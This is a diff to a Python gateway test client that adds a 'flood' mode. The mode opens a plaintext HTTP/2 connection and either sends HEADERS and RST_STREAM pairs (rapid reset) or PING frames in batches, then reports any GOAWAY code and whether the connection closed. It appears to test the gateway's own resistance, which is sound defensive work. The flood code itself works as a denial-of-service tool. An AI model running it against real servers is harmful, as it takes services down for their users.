@@ -7,6 +7,14 @@ SETTINGS_JSON: {"grpc": "HOST:PORT", "http": "HOST:PORT", "ca": PEM, "key": TOKE
 "marker": TEXT}. Every request carries `marker` in its prompt and the key in its headers; it
 prints one JSON object: each attack's name and what the gateway answered (gRPC status name,
 HTTP status, or what a raw connection got back).
+
+    python -m tests.gateway.hostile_client '{"flood": "reset" | "ping", "grpc": "HOST:PORT"}'
+
+floods one plaintext HTTP/2 connection: "reset" opens streams and resets each at once (rapid
+reset), "ping" sends PING frames. It prints "flooding" once the first frames are sent and
+"goaway CODE" when it reads the server's GOAWAY, goes on until its stdin closes or the server
+closes the connection, then prints one JSON object: the frames sent, the GOAWAY error code read
+(null: none; a reset connection can lose it) and whether the server closed the connection.
 """
 
 from __future__ import annotations
@@ -14,6 +22,8 @@ from __future__ import annotations
 import asyncio
 import gzip
 import json
+import select
+import socket
 import ssl
 import struct
 import sys
@@ -180,5 +190,75 @@ async def main(settings: dict[str, Any]) -> dict[str, Any]:
     return out
 
 
+def _goaway_code(pending: bytearray) -> int | None:
+    """Takes the whole frames off the front of `pending`: the error code of a GOAWAY among them."""
+    code = None
+    while len(pending) >= 9:
+        length = int.from_bytes(pending[:3], "big")
+        if len(pending) < 9 + length:
+            break
+        if pending[3] == 0x7:
+            code = int.from_bytes(pending[13:17], "big")
+        del pending[: 9 + length]
+    return code
+
+
+def flood(kind: str, address: str) -> dict[str, Any]:
+    host, port = address.rsplit(":", 1)
+    path = b"/grpc.health.v1.Health/Check"
+    headers = b"".join(
+        [
+            b"\x83",  # :method POST
+            b"\x86",  # :scheme http
+            _literal(b":path", path),
+            _literal(b":authority", b"localhost"),
+            _literal(b"content-type", b"application/grpc"),
+            _literal(b"te", b"trailers"),
+        ]
+    )
+    cancel = struct.pack(">I", 0x8)  # RST_STREAM CANCEL
+    sock = socket.create_connection((host, int(port)))
+    sock.sendall(HTTP2_PREFACE + _frame(0x4, 0, 0, b"") + _frame(0x4, 0x1, 0, b""))
+    sock.settimeout(1.0)
+    sent, stream, pending, goaway, sending, closed = 0, 1, bytearray(), None, True, False
+    while True:
+        if sending:
+            batch = []
+            for _ in range(100):
+                if kind == "reset" and stream < 2**31 - 2:
+                    batch += [_frame(0x1, 0x4, stream, headers), _frame(0x3, 0, stream, cancel)]
+                    stream += 2
+                else:
+                    batch.append(_frame(0x6, 0, 0, struct.pack(">Q", sent + len(batch))))
+            try:
+                sock.sendall(b"".join(batch))
+            except OSError:
+                # Refused, or not read for a second: what the server sends is still read.
+                sending = False
+            if sent == 0:
+                print("flooding", flush=True)
+            sent += 100
+        readable, _, _ = select.select([sock, sys.stdin], [], [], 0 if sending else 1)
+        if sys.stdin in readable and not sys.stdin.readline():
+            break
+        if sock in readable:
+            try:
+                data = sock.recv(1 << 20)
+            except OSError:
+                data = b""
+            if not data:
+                closed = True
+                break
+            pending += data
+            if goaway is None and (goaway := _goaway_code(pending)) is not None:
+                print(f"goaway {goaway}", flush=True)
+    sock.close()
+    return {"sent": sent, "goaway": goaway, "closed": closed}
+
+
 if __name__ == "__main__":
-    print(json.dumps(asyncio.run(main(json.loads(sys.argv[1])))))
+    settings = json.loads(sys.argv[1])
+    if "flood" in settings:
+        print(json.dumps(flood(settings["flood"], settings["grpc"])))
+    else:
+        print(json.dumps(asyncio.run(main(settings))))
